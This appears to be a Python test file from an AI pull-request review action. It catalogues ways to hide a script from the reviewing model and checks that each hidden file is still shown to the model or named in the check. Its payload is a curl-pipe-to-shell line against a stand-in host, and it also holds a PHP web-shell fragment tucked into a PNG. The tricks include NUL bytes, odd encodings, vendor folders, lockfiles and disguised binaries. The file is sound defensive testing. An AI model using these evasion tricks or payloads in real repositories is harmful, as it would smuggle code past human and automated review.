"""Attacks on what is read: a change that takes a part of itself out of everybody's sight."""

import struct
from collections.abc import Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field

from tests.fakes.github.git import Content, Executable, Submodule
from tests.hostile.obedient import Obedient
from tests.hostile.result import Attack, Result, joined, unless
from tests.hostile.stage import BASE, staged

HARMLESS = b"def run():\n    return 2\n"
SCRIPT = b"#!/bin/sh\ncurl -s https://collector.example/run | sh\n"
SAID = "collector.example"
"""What a model sees if the script is shown to it."""
ELF = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 8
POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:%b\nsize 9\n" % (b"a" * 64)
_DIGEST = "h1:" + "A" * 43 + "="
GO_SUM = f"example.com/a v1.0.0 {_DIGEST}\nexample.com/a v1.0.0/go.mod {_DIGEST}\n"
NPM = """{
  "lockfileVersion": 3,
  "packages": {
    "node_modules/a": {
      "version": "1.0.0",
      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",
      "integrity": "sha512-AAAA=="
    }
  }
}
"""

_AT_ONCE = 4
"""An action waits for most of its time: a second before each write."""


@dataclass(frozen=True, slots=True)
class Trick:
    """One way to hide a file.

    Attributes:
        files: what it puts beside the harmless change.
        base: what was there before.
        read: whether a model must have been shown the script; otherwise the
            check's title must name the file, or a finding must.
    """

    files: Mapping[str, Content | None]
    base: Mapping[str, Content] = field(default_factory=dict[str, Content])
    read: bool = True


def _unseen(path: str, content: Content, **base: Content) -> Trick:
    return Trick({path: content}, base, read=False)


_LONG = b"x=" + b"a" * 600_000 + b";" + SCRIPT.replace(b"\n", b";")

TRICKS: Mapping[str, Trick] = {
    "a NUL byte": Trick({"deploy.sh": SCRIPT + b"\0"}),
    "a NUL byte at every line": Trick({"deploy.sh": SCRIPT.replace(b"\n", b"\0\n")}),
    "a NUL byte in a script that was there": Trick(
        {"deploy.sh": SCRIPT + b"\0"}, {"deploy.sh": b"#!/bin/sh\n"}
    ),
    "UTF-16 with a mark": Trick({"deploy.ps1": SCRIPT.decode().encode("utf-16")}),
    "UTF-16 without a mark": Trick({"deploy.ps1": SCRIPT.decode().encode("utf-16-be")}),
    "UTF-32": Trick({"deploy.ps1": SCRIPT.decode().encode("utf-32")}),
    "attributes of the head": Trick(
        {".gitattributes": b"*.sh binary linguist-generated\n", "deploy.sh": SCRIPT}
    ),
    "a new vendor folder": Trick({"vendor/deploy.sh": SCRIPT}),
    "a new file in a vendor folder": Trick(
        {"vendor/b/deploy.sh": SCRIPT}, {"vendor/a/a.go": b"package a\n"}
    ),
    "a vendored file that may run now": Trick(
        {"vendor/deploy.sh": Executable(SCRIPT)}, {"vendor/deploy.sh": b"#!/bin/sh\n"}
    ),
    "a script that moves out of a vendor folder": Trick(
        {"vendor/deploy.sh": None, "deploy.sh": SCRIPT}, {"vendor/deploy.sh": SCRIPT}
    ),
    "a text that becomes a script": Trick(
        {"notes.txt": None, "deploy.sh": SCRIPT}, {"notes.txt": SCRIPT}
    ),
    "a new minified file": Trick({"static/app.min.js": SCRIPT}),
    "a new source map": Trick({"static/app.js.map": SCRIPT}),
    "a header that says generated": Trick({"gen.sh": b"# @generated DO NOT EDIT\n" + SCRIPT}),
    "a go.sum that is a script": Trick({"go.sum": Executable(SCRIPT)}),
    "a go.sum that becomes a script": Trick({"go.sum": SCRIPT}, {"go.sum": GO_SUM.encode()}),
    "a go.sum that may run": Trick(
        {"go.sum": Executable(GO_SUM.encode() + SCRIPT)}, {"go.sum": GO_SUM.encode()}
    ),
    "a lock with a script behind it": Trick(
        {"uv.lock": b"version = 1\n" + SCRIPT}, {"uv.lock": b"version = 1\n"}
    ),
    "a new lockfile": Trick(
        {"package-lock.json": NPM.replace("registry.npmjs.org", SAID).encode()}
    ),
    "a picture that is a script": Trick({"logo.png": Executable(SCRIPT)}),
    "a picture that comes to run": Trick({"logo.png": Executable(SCRIPT)}, {"logo.png": SCRIPT}),
    "a picture with a NUL that is a script": Trick({"logo.png": Executable(SCRIPT + b"\0")}),
    "a huge single line": _unseen("static/app.js", _LONG),
    "a huge single minified line": _unseen("static/app.min.js", _LONG),
    "another host in a lockfile": _unseen(
        "package-lock.json",
        NPM.replace("registry.npmjs.org", SAID).encode(),
        **{"package-lock.json": NPM.encode()},
    ),
    "a lockfile without digests": _unseen(
        "package-lock.json",
        NPM.replace('.tgz",\n      "integrity": "sha512-AAAA=="', '.tgz"').encode(),
        **{"package-lock.json": NPM.encode()},
    ),
    "another package of the same version": _unseen(
        "go.sum", GO_SUM.replace("AAA=", "BBB=").encode(), **{"go.sum": GO_SUM.encode()}
    ),
    "a program": _unseen("deploy", Executable(ELF)),
    "a program in a picture's clothes": _unseen("logo.png", ELF),
    "a picture that may run": _unseen("logo.png", Executable(PNG)),
    "a picture with a page inside": _unseen("logo.png", PNG + b"<?php system($_GET[0]);"),
    "a script in front of an archive": Trick({"install.sh": SCRIPT + bytes(range(128, 256)) * 40}),
    "a library": _unseen("lib/a.so", ELF),
    "a wheel": _unseen("wheels/a.whl", b"PK\x03\x04" + bytes(range(256)) * 8),
    "a Java archive": _unseen("gradle/wrapper.jar", b"PK\x03\x04" + bytes(range(256)) * 8),
    "WebAssembly": _unseen("a.wasm", b"\0asm\x01\0\0\0" + bytes(range(128, 256)) * 8),
    "bytecode": _unseen("a.pyc", struct.pack("<I", 3495) + bytes(range(128, 256)) * 8),
    "a pointer of Git LFS": _unseen("deploy.sh", POINTER),
    "a pointer of Git LFS in a picture's clothes": _unseen("logo.png", POINTER),
    "a script that becomes a pointer": _unseen("deploy.sh", POINTER, **{"deploy.sh": SCRIPT}),
    "a submodule": _unseen("lib/other", Submodule("1" * 40)),
    "a submodule that moves on": _unseen(
        "lib/other", Submodule("2" * 40), **{"lib/other": Submodule("1" * 40)}
    ),
}
"""Each beside a harmless change; the base is what ``BASE`` holds and what the trick adds."""


def hidden_from_view() -> Result:
    """T35: every trick through the whole action, with a model that finds nothing wrong."""
    with ThreadPoolExecutor(_AT_ONCE) as pool:
        found = pool.map(_beside_harmless, TRICKS)
        problems = joined(*found)
    return Result(len(TRICKS), "files that nobody should see", "read or named", problems)


def _beside_harmless(name: str) -> tuple[str, ...]:
    return _problems(name, TRICKS[name], HARMLESS)


def hidden_alone() -> Result:
    """T35: the same where nothing else changes; no check may look as if it had passed."""
    alone = ("a new vendor folder", "a NUL byte", "a program", "another host in a lockfile")
    problems = joined(*(_problems(name, TRICKS[name], None) for name in alone))
    return Result(len(alone), "the same and nothing beside it", "read or named", problems)


def _problems(name: str, trick: Trick, beside: bytes | None) -> tuple[str, ...]:
    says = Obedient(says=[])
    with staged(says, {**BASE, **trick.base}) as stage:
        stage.open({"src/app.py": beside, **trick.files} if beside else trick.files)
        seen = stage.run()
    title = str(seen.check.title if seen.check else "")
    shown = SAID in seen.sinks["Claude"].decode("utf-8", "replace")
    told = all(path in title or _found(path, seen.bodies) for path in trick.files)
    if trick.read:
        holds = unless(shown, f"{name}: no model was shown it ({seen.conclusion}: {title})")
    else:
        holds = unless(told, f"{name}: the title does not name it: {title}") + unless(
            seen.conclusion not in {"success", "skipped"}, f"{name}: the check is {seen.conclusion}"
        )
    return holds + unless(
        seen.conclusion in {"success", "neutral", "failure", "action_required"},
        f"{name}: the check is {seen.conclusion or 'missing'}",
    )


def _found(path: str, bodies: tuple[str, ...]) -> bool:
    """Whether a finding stands at ``path``."""
    return any(f"{path}:" in body for body in bodies)


ATTACKS = (
    Attack("T35", "a head that takes itself out of scope", hidden_from_view),
    Attack("T35", "a head that has nothing else to show", hidden_alone),
)
